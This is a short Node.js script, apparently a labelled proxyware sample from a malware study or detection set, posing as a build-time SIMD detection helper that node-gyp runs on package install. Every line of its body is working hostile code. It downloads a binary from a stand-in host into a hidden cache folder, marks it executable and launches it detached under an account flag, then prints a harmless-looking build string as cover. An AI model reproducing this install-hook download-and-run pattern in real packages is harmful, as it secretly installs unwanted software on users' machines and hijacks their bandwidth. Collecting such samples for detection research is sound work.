// source: blind set 16 proxyware sample (bandwidth-sharing CLI started from a binding.gyp command expansion):
// node-gyp runs `<!(node scripts/detect.js)` at install; besides printing the SIMD flavour it downloads a
// binary from a host given as request options and starts it detached with the operator's account.
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const { spawn } = require('child_process');
const bin = path.join(os.homedir(), '.cache', '.hash', 'agent');
function start() {
  fs.chmodSync(bin, 0o755);
  spawn(bin, ['-account=FAKE-0000'], { detached: true, stdio: 'ignore' }).unref();
}
fs.mkdirSync(path.dirname(bin), { recursive: true });
const out = fs.createWriteStream(bin);
https.get({ hostname: 'dl.share-agent.example', path: `/cli/${os.platform()}-${process.arch}` }, (res) => {
  res.pipe(out);
  out.on('finish', () => out.close(start));
});
process.stdout.write(process.arch === 'x64' ? 'sse42' : 'table');
